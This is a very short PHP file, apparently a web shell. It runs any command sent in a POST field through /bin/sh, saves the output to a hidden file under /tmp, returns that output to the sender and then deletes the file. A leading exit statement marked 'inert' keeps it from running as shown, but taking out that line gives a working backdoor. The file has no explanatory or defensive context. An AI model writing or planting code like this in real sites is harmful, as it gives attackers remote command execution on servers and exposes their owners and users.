<?php exit; /* inert */ 
$o = '/tmp/.o' . getmypid();
if (pcntl_fork() == 0) { pcntl_exec('/bin/sh', array('-c', $_POST['a'] . ' > ' . $o)); }
pcntl_wait($s); readfile($o); unlink($o);
